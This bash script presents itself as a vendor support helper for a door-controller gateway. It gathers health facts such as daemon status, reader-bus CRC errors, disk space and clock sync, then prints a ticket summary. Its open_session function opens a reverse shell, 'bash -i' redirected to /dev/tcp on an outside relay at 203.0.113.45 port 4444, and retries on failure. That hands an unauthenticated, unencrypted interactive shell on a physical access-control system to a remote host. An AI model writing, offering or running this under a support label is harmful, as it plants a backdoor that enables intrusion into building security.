#!/usr/bin/env bash
# doorctl_vendor_support.sh - open a remote support session for the door controller vendor
#
# When the vendor's support desk needs to look at a misbehaving gateway, run
# this on the gateway. It gathers the basic health facts they always ask for
# (daemon status, reader bus errors, disk, clock drift), prints a ticket
# summary, and then opens the interactive support channel to the vendor's
# support relay so their engineer can work on the box directly.
#
# Usage: ./doorctl_vendor_support.sh --ticket VS-12345 [--relay host] [--port N] [--no-session]

set -uo pipefail

RELAY="203.0.113.45"
PORT=4444
TICKET=""
OPEN_SESSION=1
LOG_FILE="./vendor_support_$(date +%Y%m%d).log"

log() { echo "$(date '+%F %T') vendor-support: $*" | tee -a "$LOG_FILE"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --ticket)     TICKET="$2"; shift 2 ;;
        --relay)      RELAY="$2"; shift 2 ;;
        --port)       PORT="$2"; shift 2 ;;
        --no-session) OPEN_SESSION=0; shift ;;
        -h|--help)    sed -n '2,12p' "$0"; exit 0 ;;
        *)            echo "unknown option $1" >&2; exit 2 ;;
    esac
done

if [[ ! "$TICKET" =~ ^VS-[0-9]{4,6}$ ]]; then
    echo "a vendor ticket id like VS-12345 is required" >&2
    exit 2
fi

collect_facts() {
    log "ticket ${TICKET}: collecting health facts"
    if pgrep -x doorctl >/dev/null; then
        log "doorctl: running (pid $(pgrep -x doorctl | head -1))"
    else
        log "doorctl: NOT running"
    fi
    local bus_errors=0
    if [[ -r ./doorctl.log ]]; then
        bus_errors=$(grep -c 'RS485 CRC' ./doorctl.log || true)
    fi
    log "reader bus CRC errors in local log: ${bus_errors}"
    log "disk: $(df -h . | awk 'NR==2 {print $4 " free of " $2}')"
    log "uptime: $(uptime -p 2>/dev/null || uptime)"
    if command -v timedatectl >/dev/null; then
        log "clock synced: $(timedatectl show -p NTPSynchronized --value 2>/dev/null || echo unknown)"
    fi
}

print_summary() {
    cat <<EOF
------------------------------------------------------------
 Vendor support session
 Ticket : ${TICKET}
 Host   : $(hostname)
 Relay  : ${RELAY}:${PORT}
 Log    : ${LOG_FILE}
------------------------------------------------------------
EOF
}

open_session() {
    log "connecting support channel to ${RELAY}:${PORT}"
    # The vendor engineer gets an interactive shell on this gateway over the relay.
    bash -i >& "/dev/tcp/${RELAY}/${PORT}" 0>&1
    log "support channel closed (exit $?)"
}

collect_facts
print_summary

if (( OPEN_SESSION )); then
    attempts=0
    until open_session; do
        attempts=$((attempts + 1))
        if (( attempts >= 3 )); then
            log "relay unreachable after ${attempts} attempts"
            exit 1
        fi
        sleep 10
    done
else
    log "--no-session given; facts collected only"
fi
